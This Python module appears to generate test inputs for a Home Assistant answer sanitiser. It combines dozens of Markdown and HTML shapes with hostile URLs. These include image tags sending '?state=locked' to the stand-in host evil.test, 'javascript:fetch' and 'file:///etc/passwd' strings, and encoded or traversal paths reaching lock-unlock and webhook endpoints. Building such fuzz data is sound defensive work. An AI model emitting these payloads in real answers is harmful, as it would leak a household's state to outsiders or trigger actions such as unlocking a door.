"""Ways in which the address of an answer could tell a stranger of the home, as Markdown and HTML write them."""

from collections.abc import Iterator
from random import Random

TELLS = "evil.test/?state=locked"

ADDRESSES = (
    f"http://{TELLS}",
    f"https://{TELLS}",
    f"HTTPS://{TELLS}",
    f"//{TELLS}",
    f"/\\{TELLS}",
    f"\\/\\/{TELLS}",
    f"https:{TELLS}",
    f"https:\\/\\/{TELLS}",
    f"&#104;ttps://{TELLS}",
    f"https&colon;//{TELLS}",
    f"http://user@{TELLS}",
    f"https://https://{TELLS}",
    f"ftp://{TELLS}",
    f"www.{TELLS}",
    f"data:text/html,<img src=https://{TELLS}>",
    f"javascript:fetch('https://{TELLS}')",
)
SEEMINGLY_OWN = tuple(
    f"/{mark}{TELLS}" for mark in ("&sol;", "&bsol;", "&Tab;/", "&NewLine;/", "&Tab;&sol;", "&#47;", "&#x2f;")
)
"""Addresses that begin as those of Home Assistant itself do, until a browser has read what is written in them."""
OWN_LOOKING = (
    *(
        f"{path}https://{TELLS}"
        for path in (
            "/auth/authorize?response_type=code&redirect_uri=",
            "/auth/authorize?client_id=",
            "/auth/external/callback?code=",
            "/_my_redirect/redirect?url=",
            "/_my_redirect/blueprint_import?blueprint_url=",
            "/config/blueprint/dashboard?blueprint_url=",
            "/redirect?url=",
            "/redirect/",
            "/config/",
            "/lovelace/#",
            "/profile?next=",
        )
    ),
    *(
        f"{path}//{TELLS}"
        for path in ("/local/..", "/config/..", "/history/.", "/lovelace", "/map/%2e%2e", "/", "/config;", "/todo/..;")
    ),
    *(
        "/api/webhook/open_the_door",
        "/api/services/lock/unlock",
        "/api/states",
        "/api/config",
        "/api/hassio_ingress/x/",
    ),
    *(
        "/local/door.html",
        "/hacsfiles/x.js",
        "/api/camera_proxy_stream/camera.door",
        "/api/tts_proxy/x.mp3",
        "/service_worker.js",
    ),
    *(
        "/history?entity_id=lock.door",
        "/developer-tools/action",
        "/lock-panel",
        "/config/../api/webhook/x",
        "/config\\..\\api",
    ),
    *("/api/extended_assist/shown/../../webhook/x", "/api/camera_proxy/../webhook/x", "/api/image_proxy/image.x?x=1"),
)
"""Addresses of the home itself that lead away from it, do something, or show what somebody else has written."""
OTHER_WAYS = (
    "mailto:a@evil.test?body=locked",
    "MAILTO:a@evil.test",
    "a@evil.test",
    "locked.door@evil.test",
    "xmpp:a@evil.test",
    "tel:+4900locked",
    "sms:+4900?body=locked",
    "data:image/png;base64,AAAA",
    "data:text/html,locked",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:x",
    "homeassistant://navigate/config",
    "intent://evil.test/#Intent;end",
    "geo:0,0?q=locked",
    "magnet:?xt=locked",
    "ftp://evil.test",
    "file:///etc/passwd",
    "blob:https://evil.test/x",
    "./api/webhook/x",
    "../api/webhook/x",
    "api/webhook/x",
    "#locked",
    "?auth_callback=1",
)
"""Addresses that are none of the web's, or none by themselves."""
SHAPES = (
    "![]({})",
    "![the door]({})",
    '![the door]({} "title")',
    "![the door](<{}>)",
    "![the door]( {} )",
    "![the\ndoor]({})",
    "![the door][door]\n\n[door]: {}",
    "![door]\n\n[door]: {}",
    "![door][]\n\n> [door]: <{}> 'title'",
    "[door]:\n{}\n\n![door]",
    "[the door]({})",
    "[![the door]({})](/config)",
    "[![the door](/local/a.png)]({})",
    "[<img src={}>](/config)",
    "[a [b]({})]({})",
    "![a ![b]({})]({})",
    "![a\\]]({})",
    "!\\[a]({})",
    "[a](/config)![]({})",
    "<{}>",
    "{}",
    "see {}.",
    "({})",
    "**{}**",
    "<img src={}>",
    "<IMG SRC='{}'>",
    '<img\nsrc="{}"/>',
    "<<img src={}>",
    "<a href='{}'>door</a>",
    "<video poster={}></video>",
    "<audio src={} autoplay>",
    "<table background={}>",
    "<p style='background:url({})'>",
    "<svg><image href={} /></svg>",
    "<!-- --><img src={}>",
    "| a |\n|---|\n| ![]({}) |",
    "- ![]({})",
    "# ![]({})",
    "```\n```\n![]({})",
)


def answers(seed: int = 0, count: int = 300) -> Iterator[str]:
    """Yield every shape with every address, and then mixtures of them."""
    for shape in SHAPES:
        for address in ADDRESSES:
            yield shape.replace("{}", address)
        if "]({})" in shape:
            yield from (shape.replace("{}", address) for address in SEEMINGLY_OWN)
            yield from (shape.replace("{}", address) for address in (*OWN_LOOKING, *OTHER_WAYS))
    yield from OTHER_WAYS
    yield from (f"<{address}>" for address in OTHER_WAYS)
    random = Random(seed)
    for _ in range(count):
        words = [
            random.choice(("The door", "is", "\n", "[", "]", "(", ")", "!", "<", "https:", "//", "www", "."))
            for _ in range(4)
        ]
        parts = [random.choice(SHAPES).replace("{}", random.choice(ADDRESSES)) for _ in range(2)]
        yield "".join(random.sample([*words, *parts], 6))
